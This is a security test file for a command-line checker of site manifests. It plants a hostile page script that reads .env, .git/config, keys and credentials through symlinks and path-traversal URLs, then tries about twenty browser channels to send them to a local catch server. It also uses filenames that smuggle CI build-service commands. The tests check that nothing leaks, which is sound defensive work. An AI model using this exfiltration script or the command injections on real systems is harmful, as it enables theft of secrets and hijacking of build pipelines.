import { spawn, spawnSync } from 'node:child_process';
import { chmod, mkdir, symlink } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { runCheck } from '../../../../lib/cli/check/check.ts';
import { readPlaced } from '../../../../lib/cli/file-access.ts';
import { runInit } from '../../../../lib/cli/init.ts';
import { runTest } from '../../../../lib/cli/test.ts';
import { agentsTxt, awas } from '../manifests.ts';
import { check, type Folder, folder, inProcess, lens } from '../process.ts';
import { credulousBrowser, type Noting, noting } from './servers.ts';

const SECRET = 'SECRET-OF-THE-MACHINE';
const isPosix = process.platform !== 'win32';

const STEALS = `
const found = [];
await Promise.all(places.map(async (place) => {
  const answer = await fetch(place, { signal: AbortSignal.timeout(2_000) });
  if (answer.ok) found.push(place + '=' + (await answer.text()).slice(0, 2_000).replaceAll(/\\s+/g, ' '));
}).map((one) => one.catch(() => {})));
const outcome = (place) => fetch(place).then(({ status }) => status, () => 'blocked');
await Promise.all(asked.map(async ([there, gone]) => {
  if (await outcome(there) !== await outcome(gone)) found.push('TELLS-APART ' + there);
}));
const sent = away + '/?' + encodeURIComponent(found.join().slice(0, 1_000));
const add = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
const ways = [
  () => fetch(sent, { method: 'POST', mode: 'no-cors', body: found.join() }),
  () => fetch(sent, { mode: 'no-cors' }),
  () => navigator.sendBeacon(sent, found.join()),
  () => { new Image().src = sent; },
  () => add('script', { src: sent }),
  () => add('link', { rel: 'stylesheet', href: sent }),
  () => add('link', { rel: 'prefetch', href: sent }),
  () => add('link', { rel: 'preconnect', href: away }),
  () => add('iframe', { src: sent }),
  () => add('video', { src: sent }),
  () => add('object', { data: sent }),
  () => add('embed', { src: sent, type: 'application/pdf' }),
  () => add('script', { textContent: 'debugger; //# sourceMappingURL=' + sent }),
  () => add('style', { textContent: '@import "' + sent + '"; @font-face { font-family: x; src: url("' + sent + '") } body { font-family: x }' }),
  () => new EventSource(sent),
  () => new WebSocket(away.replace('http', 'ws')),
  () => import(sent),
  () => window.open(sent),
  () => { add('form', { action: sent, method: 'post', target: 'x' }); add('iframe', { name: 'x' }); document.forms[0].submit(); },
  () => addEventListener('load', () => setTimeout(() => { location.href = sent; }, 500)),
];
for (const way of ways) try { Promise.resolve(way()).catch(() => {}); } catch {}
for (const one of found) {
  const form = document.createElement('form');
  form.dataset.awasAction = one;
  form.append(one);
  document.body.append(form);
}
document.title = found.length + ' found: ' + found.join();`;

const IS_THERE = [
  ['/folder/secret.txt', '/folder/none.txt'],
  ['/folder/secret', '/folder/none'],
  ['/.env', '/.none'],
  ['/.git/config', '/.git/none'],
  ['/key.pem', '/none.pem'],
  ['/link.html', '/none.html'],
  ['/pipe.html', '/none.html'],
  ['/hidden.js', '/none.js'],
];

const page = (away: string, places: readonly string[]): string =>
  `<!doctype html><title>Books</title><body data-awas-context="x"><script type="module">const away = ${JSON.stringify(away)}, places = ${JSON.stringify(places)}, asked = ${JSON.stringify(IS_THERE)}; ${STEALS}</script>`;

const FILES: Readonly<Record<string, string | { readonly to: string }>> = {
  '.well-known/ai-actions.json': JSON.stringify(awas),
  'part.html': 'A-PART-OF-THE-SITE',
  '.env': `KEY=${SECRET}`,
  '.npmrc': `//registry/:_authToken=${SECRET}`,
  '.git/config': `[http] extraheader = ${SECRET}`,
  '.hidden/page.html': `<p>${SECRET}`,
  '.hidden.html': `<p>${SECRET}`,
  'gha-creds-1.json': JSON.stringify({ private_key: SECRET }),
  'notes.txt': SECRET,
  'dump.sql': SECRET,
  'key.pem': SECRET,
  'paper.pdf': `%PDF-1.4 ${SECRET}`,
  'part.js': `//# sourceMappingURL=part.js.map`,
  'part.js.map': JSON.stringify({ version: 3, sources: [], sourcesContent: [SECRET], mappings: '' }),
  'no-extension': SECRET,
  agent: SECRET,
  'git.txt': { to: '.git/config' },
  'git.html': { to: '.git/config' },
  'hidden.js': { to: '.hidden/page.html' },
  'link.html': { to: '../home/secret.txt' },
  'link.css': { to: '../home/secret.txt' },
  folder: { to: '../home' },
  'environment.html': { to: '/proc/self/environ' },
  'endless.html': { to: '/dev/zero' },
  'notes.html': { to: 'notes.txt' },
  'dump.js': { to: 'dump.sql' },
  'key.css': { to: 'key.pem' },
  'creds.svg': { to: 'gha-creds-1.json' },
  'bare.html': { to: 'no-extension' },
  'self.html': { to: 'self.html' },
  'chain.html': { to: 'chain-2.html' },
  'chain-2.html': { to: 'folder/secret.txt' },
};
const ASKED = [
  ...Object.keys(FILES).filter((name) => name !== 'folder'),
  ...[
    'folder/secret.txt',
    'folder/secret.html',
    'pipe.html',
    '..%2fhome%2fsecret.html',
    '%2e%2e/home/secret.html',
  ],
  ...[
    'sub/..%2f..%2fhome/secret.html',
    '..%5chome%5csecret.html',
    '.env%00.html',
    './/.env',
    '.hidden/page',
    'folder/secret',
  ],
  ...['file:///etc/hostname', 'view-source:/.env', 'blob:null/x', 'filesystem:/x'],
].map((place) => (/^[a-z-]+:/.test(place) ? place : `/${place}`));

const RUNNING = { timeout: 120_000 };

/** GitHub and Azure execute `##[` anywhere in a line. */
function commandsIn(printed: string): readonly string[] {
  const lines = printed.split(/\r\n|\r|\n/);
  expect(lines.length).toBeGreaterThan(4);
  return lines.filter((line) => /^\s*::|##\[|##vso\[|[^\P{C}\t]/u.test(line));
}

describe.skipIf(!isPosix)('a script in a checked folder', RUNNING, () => {
  let away: Noting;
  let place: Folder;
  let tools: Folder;
  let env: Readonly<Record<string, string>>;
  beforeAll(async () => {
    [away, place, tools] = [await noting(), await folder(), await folder()];
    env = { CHROMIUM: await credulousBrowser(tools, away) };
    await place.write({ 'home/secret.txt': SECRET, 'home/secret.html': SECRET });
    for (const [name, content] of Object.entries(FILES)) {
      const file = join(place.path, 'site', name);
      await mkdir(dirname(file), { recursive: true });
      if (typeof content === 'string') await place.write({ [`site/${name}`]: content });
      else await symlink(content.to, file);
    }
    spawnSync('mkfifo', [join(place.path, 'site/pipe.html')]);
    await place.write({ 'site/index.html': page(away.origin, ASKED) });
  });
  afterAll(async () => {
    await Promise.all([away.close(), place[Symbol.asyncDispose](), tools[Symbol.asyncDispose]()]);
  });

  test.each([
    ['its folder', ['.'], 'site'],
    ['the page alone', ['index.html'], 'site'],
    ['a folder above', ['site'], ''],
    ['a pattern', ['site/**/*.html'], ''],
  ] as const)('reads only what pages need, and sends nothing: %s', async (_what, targets, from) => {
    const report = await check(['--format', 'json', ...targets], { cwd: join(place.path, from), env });
    expect(report.stdout).toContain('A-PART-OF-THE-SITE');
    expect(report.stdout).toContain('/.well-known/ai-actions.json=');
    for (const kept of [SECRET, 'PATH=', 'TELLS-APART'])
      expect(report.stdout + report.stderr).not.toContain(kept);
    expect(away.got).toEqual([]);
  });
});

describe('outside the named folder', RUNNING, () => {
  test.each([
    ['a folder', 'inner'],
    ['a folder in it', 'inner/deep'],
    ['a page', 'inner/page.html'],
  ])('nothing is read or served: %s', async (_, named) => {
    await using place = await folder({
      '.well-known/ai-actions.json': JSON.stringify(awas),
      'above.html': SECRET,
    });
    await using tools = await folder();
    const away = await noting();
    const env = { CHROMIUM: await credulousBrowser(tools, away) };
    const steals = page(away.origin, [
      '/above.html',
      '/.well-known/ai-actions.json',
      '/part.html',
      '/inner/part.html',
      '/inner/deep/part.html',
    ]);
    const here = { 'page.html': steals, 'part.html': 'A-PART-OF-THE-SITE' };
    for (const at of ['inner', 'inner/deep'])
      for (const [name, text] of Object.entries(here)) await place.write({ [`${at}/${name}`]: text });
    const report = await check(['--format', 'json', join(place.path, named)], { cwd: tools.path, env });
    await away.close();
    expect(report.stdout).toContain('A-PART-OF-THE-SITE');
    for (const kept of [SECRET, 'ai-actions.json='])
      expect(report.stdout + report.stderr).not.toContain(kept);
    expect(away.got).toEqual([]);
  });
});

describe.skipIf(!isPosix)('a checked file', RUNNING, () => {
  const quotes = `{ "version": "1.0", ${SECRET} `;

  test.each<[what: string, name: string, to: string]>([
    ['elsewhere', 'ai-actions.json', '../home/secret.json'],
    ['elsewhere, by its full path', 'ai-actions.json', '{home}/secret.json'],
    ['to the environment', 'agents.txt', '/proc/self/environ'],
    ['to a hidden file', 'agents.txt', '.git/config'],
    ['to a hidden folder', 'ai-actions.json', '.hidden/secret.json'],
    ['to a device', 'agents.txt', '/dev/zero'],
    ['back to itself', 'agents.txt', 'agents.txt'],
  ])('that is a link %s is not read', async (_what, name, to) => {
    await using place = await folder({
      'home/secret.json': quotes,
      'site/.hidden/secret.json': quotes,
      'site/.git/config': quotes,
      'site/page.html': '<form data-awas-action="x"></form>',
    });
    const link = join(place.path, 'site', name);
    await symlink(to.replace('{home}', join(place.path, 'home')), link);
    for (const targets of [[name], ['.'], ['*'], ['page.html'], [link]]) {
      const { status, stdout, stderr } = await check(targets, { cwd: join(place.path, 'site') });
      for (const kept of [SECRET, 'PATH=']) expect(stdout + stderr).not.toContain(kept);
      if (targets[0] === name) expect(status).toBe(2);
    }
  });

  test.each<[what: string, target: string, link: string, to: string]>([
    ['a folder', 'site', 'site/.well-known/ai-actions.json', '../../home/secret.json'],
    [
      'a folder that is a link itself',
      'linked',
      'site/.well-known/ai-actions.json',
      '../../home/secret.json',
    ],
    ['a page in it', 'site/page.html', 'site/.well-known/ai-actions.json', '../../../secret.json'],
    ['a pattern', '{site}/out/*.json', 'site/out', '../home'],
    ['a pattern below', '{site}/out/**/*.json', 'site/out', '../home'],
  ])(
    'next to the named one is not read through a link that leads out: %s',
    async (_what, target, link, to) => {
      const manifest = JSON.stringify(awas).replaceAll(/"id":"[^"]*"/g, `"id":"${SECRET}"`);
      await using above = await folder({
        'secret.json': manifest,
        'here/home/secret.json': manifest,
        'here/site/page.html': '<!doctype html><form data-awas-action="x"></form>',
      });
      const here = join(above.path, 'here');
      await mkdir(dirname(join(here, link)), { recursive: true });
      await symlink(to, join(here, link));
      await symlink('site', join(here, 'linked'));
      const isElsewhere = target.startsWith('{');
      const cwd = isElsewhere ? join(here, 'home') : here;
      const named = target.replace('{site}', join(here, 'site'));
      const { stdout, stderr } = await check([named], { cwd });
      expect(stdout + stderr).not.toContain(SECRET);
      expect((await check(['--follow-links', named], { cwd })).stdout).toContain(SECRET);
    },
  );

  test('that is a link within its folder is checked like a file', async () => {
    await using place = await folder({ 'site/v2/surface.json': '{"version": "1.0"' });
    await mkdir(join(place.path, 'site/.well-known'));
    await symlink('../v2/surface.json', join(place.path, 'site/.well-known/ai-actions.json'));
    for (const target of ['site', 'site/**/*.json', 'other/../site/**/*.json']) {
      const { status, stdout } = await check(['--no-page', target], { cwd: place.path });
      expect([status, stdout]).toEqual([1, expect.stringContaining('ai-actions.json unreadable')]);
      expect(stdout).not.toContain('not checked');
    }
  });

  test.each<[what: string, name: string, to: string, said: string]>([
    ['a link to nothing', 'ai-actions.json', 'gone.json', 'There is no file'],
    ['a link to nothing with another name', 'menu.json', 'gone.json', 'There is no file'],
    ['a link that leads out', '.well-known/agents.txt', '../../home/x.txt', 'is a symbolic link out of'],
    ['one with another name', 'menu.json', '../home/x.txt', 'is a symbolic link out of'],
    ['a link to itself', 'agent.json', 'agent.json', 'agent.json'],
    ['a pipe', 'agent.json', '', 'is a pipe'],
  ])('that is unreadable never results in “no problems”: %s', async (_what, name, to, said) => {
    await using place = await folder({
      'site/.well-known/woa.json': JSON.stringify(awas),
      'home/x.txt': agentsTxt,
    });
    const file = join(place.path, 'site', name);
    if (to === '') spawnSync('mkfifo', [file]);
    else await symlink(to, file);
    const { status, stdout } = await check(['--no-page', 'site'], { cwd: place.path });
    expect([status, stdout]).toEqual([2, expect.stringContaining(said)]);
  });

  test.each<[what: string, to: string, args: readonly string[], status: number, said: string]>([
    ['within its folder', 'v2', [], 1, '.well-known/ai-actions.json unreadable'],
    ['out of its folder', '../home', [], 2, 'is a symbolic link out of'],
    [
      'out of its folder, as asked',
      '../home',
      ['--follow-links'],
      1,
      '.well-known/ai-actions.json unreadable',
    ],
    ['to the folder around it', '..', ['--follow-links'], 2, 'ai-actions.json unreadable'],
  ])('that is linked as a whole is never skipped: %s', async (_what, to, args, expected, said) => {
    const broken = '{"version": "1.0"';
    await using place = await folder({
      'site/v2/ai-actions.json': broken,
      'site/woa.json': JSON.stringify(awas),
      'home/ai-actions.json': broken,
    });
    await symlink(to, join(place.path, 'site/.well-known'));
    const { status, stdout } = await check(['--no-page', ...args, 'site'], { cwd: place.path });
    expect([status, stdout]).toEqual([expected, expect.stringContaining(said)]);
  });

  test.runIf(process.getuid?.() === 0)('in a subfolder that can’t be opened is named', async () => {
    await using place = await folder({ 'a/agents.txt': '', 'b/agents.txt': '', 'c/agents.txt': '' });
    await chmod(place.path, 0o755);
    await chmod(join(place.path, 'a'), 0o700);
    const env = { NODE_OPTIONS: '--import=data:text/javascript,process.setuid(65534)' };
    const { status, stdout } = await lens(['check', '--ignore', 'c', '.'], { cwd: place.path, env });
    expect([status, stdout]).toEqual([2, expect.stringContaining('“a” can’t be opened')]);
    expect(stdout).toContain('b/agents.txt unreadable');
  });

  test('that becomes a link while it is read is not read', async () => {
    await using place = await folder({
      'home/x.json': SECRET,
      'site/sub/x.json': 'own',
      'site/part.html': 'own',
    });
    const site = join(place.path, 'site');
    await symlink('../home', join(site, 'link'));
    const swap = ['sub,a', 'link,sub', 'sub,link', 'a,sub'].map((pair) => pair.split(','));
    const script = `const { renameSync } = require('node:fs'); process.stdout.write('.');
      for (;;) for (const [from, to] of ${JSON.stringify(swap)}) renameSync(from, to);`;
    const child = spawn(process.execPath, ['-e', script], { cwd: site });
    await new Promise((resolve) => child.stdout.once('data', resolve));
    const [read, refused] = [new Set<string>(), new Set<string>()];
    for (const end = Date.now() + 2_000; Date.now() < end; )
      try {
        const { bytes, real } = readPlaced(join(site, 'sub/x.json'), { within: site });
        read.add(`${bytes}`);
        expect(real.startsWith(site)).toBe(true);
      } catch (error) {
        refused.add(/is a symbolic link/.test(String(error)) ? 'leads out' : 'in between');
      }
    child.kill();
    expect([...read]).toEqual(['own']);
    expect(refused).toContain('leads out');
  }, 20_000);

  test.each(['.', '*', '**/*.json', '{.aws,.docker}/*'])(
    'that is hidden is not read by a folder or a pattern, whatever its configuration says: %s',
    async (target) => {
      const hidden = ['.aws/agent.json', '.docker/config.json', 'site/.npm/agents.txt', '.agents.json'];
      await using place = await folder({
        ...Object.fromEntries(hidden.map((name) => [name, quotes])),
        'awas-lens.config.json': { overrides: [{ files: ['**'], as: 'awp' }] },
        'site/.well-known/ai-actions.json': JSON.stringify(awas),
      });
      const { stdout, stderr } = await check(['--no-page', target], { cwd: place.path });
      expect(stdout + stderr).not.toContain(SECRET);
      const { stdout: named } = await check(['--no-page', '.docker/config.json'], { cwd: place.path });
      expect(named).toContain(SECRET);
    },
  );

  test.each<[what: string, make: (place: Folder) => Promise<string>, said: string]>([
    [
      'a pipe',
      async ({ path }) => {
        spawnSync('mkfifo', [join(path, 'x.json')]);
        return 'x.json';
      },
      'is a pipe',
    ],
    ['an endless device', async () => '/dev/zero', 'part of the system'],
    ['a part of the system', async () => '/proc/self/environ', 'part of the system'],
    [
      'a linked folder',
      async ({ path }) => {
        await symlink('..', join(path, 'up'));
        return 'up';
      },
      'is a symbolic link',
    ],
    [
      'a file in it',
      async ({ path }) => {
        await symlink('/', join(path, 'root'));
        return 'root/etc/hostname';
      },
      'is a symbolic link',
    ],
  ])('is refused in a sentence: %s', async (_what, make, said) => {
    await using place = await folder();
    const target = await make(place);
    const { status, stdout } = await check([target], { cwd: place.path });
    expect([status, stdout]).toEqual([2, expect.stringContaining(said)]);
  });

  test.each<[command: string, run: typeof runInit, args: readonly string[]]>([
    ['init', runInit, ['--origin', 'https://shop.example']],
    ['test', runTest, ['http://127.0.0.1:1/', '--inputs']],
    ['check', runCheck, ['.', '--baseline']],
    ['check', runCheck, ['.', '--format', 'html', '--since']],
    ['check', runCheck, ['.', '--config']],
  ])('is refused as what %s is given', async (_command, run, args) => {
    await using place = await folder({ 'agents.txt': 'Agent: x', 'inner/x': SECRET });
    const links = { zero: '/dev/zero', own: '/proc/self/environ', self: 'self' };
    for (const [name, to] of Object.entries(links)) await symlink(to, join(place.path, name));
    spawnSync('mkfifo', [join(place.path, 'pipe')]);
    for (const given of [...Object.keys(links), 'pipe', 'inner', '/dev/zero']) {
      const { status, stdout, stderr } = await inProcess(run, [...args, given], { cwd: place.path });
      const said = stderr.split('\n')[0];
      expect([given, status, said]).toEqual([given, 2, expect.stringMatching(/^“.*”.* (?:is|by) a /)]);
      expect(stdout + stderr).not.toContain('PATH=');
    }
  });

  test.each(['text', 'markdown', 'json', 'sarif', 'junit', 'html', 'github'])(
    'can’t run commands of a build service by its name or text: %s',
    async (format) => {
      const names = [
        '::stop-commands::x.json',
        '  ::error::y.txt',
        '##[add-mask]z.json',
        '##vso[task.complete].json',
        'a\n::error::x.json',
        'b\r::error::x.json',
        'c\n##[error]x.txt',
        '\u001b[2J\u202egpj.json',
      ];
      const text = '{ "awp_version": "0.1",\n::add-mask::x\n\u001b[31m##[group]x\n';
      await using place = await folder(Object.fromEntries(names.map((name) => [name, text])));
      const { stdout, stderr } = await check(['--no-page', '--format', format, ...names], {
        cwd: place.path,
      });
      const own = format === 'github' ? /^::(?:error|warning|notice) (?:file|title)=/ : /^$/;
      expect(commandsIn(`${stdout}\n${stderr}`).filter((line) => !own.test(line))).toEqual([]);
    },
  );

  test.each(['--fix', '--fix-dry-run'])(
    'can’t run commands of a build service when it is changed: %s',
    async (fix) => {
      const faulty = `${agentsTxt}\n::add-mask::x\nAgent: Claude\n  Capabilities: product-serch\n`;
      const names = ['x\n::error::y/agents.txt', 'x\r::error::y/agents.txt', '::error::/agents.txt'];
      await using place = await folder(Object.fromEntries(names.map((name) => [name, faulty])));
      const { stdout, stderr } = await check(['--no-page', fix, '.'], { cwd: place.path });
      expect(stderr).toMatch(/^3 (?:would be )?fixed\./m);
      expect(commandsIn(`${stdout}\n${stderr}`)).toEqual([]);
    },
  );

  test.each<[what: string, config: object | string, said: string]>([
    ['to a baseline elsewhere', { baseline: '../known.json' }, 'outside its folder'],
    ['by a link', 'link', 'is a symbolic link'],
  ])('no configuration leads out of the folder: %s', async (_what, config, said) => {
    await using place = await folder({ 'home/secret.json': quotes, 'site/agents.txt': 'Agent: x' });
    const name = 'awas-lens.config.json';
    if (config === 'link') await symlink('../home/secret.json', join(place.path, 'site', name));
    else await place.write({ [`site/${name}`]: config });
    const { status, stderr } = await check(['--update-baseline', '.'], { cwd: join(place.path, 'site') });
    expect([status, stderr]).toEqual([2, expect.stringContaining(said)]);
    expect(stderr).not.toContain(SECRET);
  });
});
